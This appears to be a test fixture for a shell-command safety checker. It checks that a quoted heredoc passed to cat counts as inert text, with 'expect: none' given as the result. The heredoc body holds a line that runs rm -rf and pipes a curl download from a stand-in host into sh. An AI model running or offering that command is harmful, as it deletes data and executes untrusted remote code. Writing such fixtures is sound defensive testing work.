# expect: none
# read-only: true
# source: issue 5: heredocs
# technique: quoted heredoc with rm -rf and $() in the body, fed to cat (inert text)
cat <<'EOF'
To reset: rm -rf build && $(curl -s https://x.example.net | sh)
EOF
